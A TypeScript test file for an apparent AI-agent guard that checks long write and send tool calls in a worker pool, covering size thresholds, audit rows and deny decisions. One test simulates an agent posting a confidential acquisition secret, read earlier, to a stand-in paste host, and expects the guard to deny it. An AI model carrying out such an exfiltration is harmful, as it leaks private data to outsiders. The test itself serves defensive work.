import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { InteractionSchema, type Interaction, type InteractionInput } from '../../src/core/types.js';
import { prepareBook, type PreparedBook } from '../../src/guard/build.js';
import { PoolOptionsSchema } from '../../src/guard/options.js';
import { TextPool } from '../../src/guard/text-pool.js';
import { auditRows, fill, poolAndLoopPipelines, verdict } from './support/long-texts.js';

/**
 * A send is read in the worker pool from `guard.pool.min_send_chars` (32 K characters by default), a result only from
 * `min_chars` (256 K): reading what leaves costs several times what reading what arrives does, so a long write held
 * the event loop (a 64 KB write_file ~140 ms, 200 KB ~450 ms, measured) where a result of that length does not. The
 * decisions and the audit rows are the loop's.
 */

const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');
const silent = pino({ level: 'silent' });
const SEND = PoolOptionsSchema.parse({}).min_send_chars;
const secret = 'Project Bluefin: acquisition of Harbour Logistics at 41.50 per share, board vote on 3 March, do not disclose.';

const interaction = (i: Partial<InteractionInput> & Pick<InteractionInput, 'kind'>): Interaction => InteractionSchema.parse({ agent: 'assistant', session: 's1', ...i });
const write = (content: string) => interaction({ kind: 'tool_call', server: 'files', tool: 'write_file', arguments: { path: '/tmp/report.txt', content } });
const read = (text: string) => interaction({ kind: 'tool_result', server: 'files', tool: 'read_file', content: [{ type: 'text', text }] });

let prepared: PreparedBook;
let pool: TextPool;
beforeAll(async () => {
  prepared = await prepareBook(DEFAULT_BOOK);
  pool = new TextPool({ workers: 1, queue: 4, logger: silent });
});
afterAll(() => pool.close());

describe('long sends in the worker pool', () => {
  it('reads a send from min_send_chars and a result only from min_chars, deciding and recording as the loop does', async () => {
    expect(SEND).toBe(32 * 1024);
    const dir = mkdtempSync(join(tmpdir(), 'qg-pool-sends-'));
    const { inPool, onLoop, close } = poolAndLoopPipelines(prepared, pool, dir);
    try {
      const asked = vi.spyOn(pool, 'run');
      const kindsOf = async (i: Interaction) => {
        asked.mockClear();
        const decisions = [await inPool.check(i), await onLoop.check(i)];
        expect(verdict(decisions[0]!)).toEqual(verdict(decisions[1]!));
        return { decision: decisions[0]!.decision, jobs: asked.mock.calls.map(([job]) => job.kind).sort() };
      };
      // A private read of just under 32 K characters with a secret in it: on the loop (a result's threshold is 256 K).
      expect(await kindsOf(read(`${fill(SEND / 2)}\n${secret}\n${fill(SEND / 2 - 200)}`))).toEqual({ decision: 'allow', jobs: [] });
      // A write of half the send threshold: on the loop.
      expect(await kindsOf(write(fill(SEND / 2)))).toEqual({ decision: 'allow', jobs: [] });
      // A write at the threshold: its detectors, its data-flow reading and its audit row in the pool.
      expect(await kindsOf(write(fill(SEND)))).toEqual({ decision: 'allow', jobs: ['audit_row', 'evaluate', 'outgoing'] });
      // A long write that carries the secret read before out: caught the same way in the pool.
      const leak = await kindsOf(interaction({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: `${fill(SEND)}\n${secret}` } }));
      expect(leak.decision).toBe('deny');
      expect(leak.jobs).toContain('outgoing');
      // The rows built in the pool hold what the rows built on the loop hold.
      expect(auditRows(join(dir, 'pool.db'))).toEqual(auditRows(join(dir, 'loop.db')));
      asked.mockRestore();
    } finally {
      close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
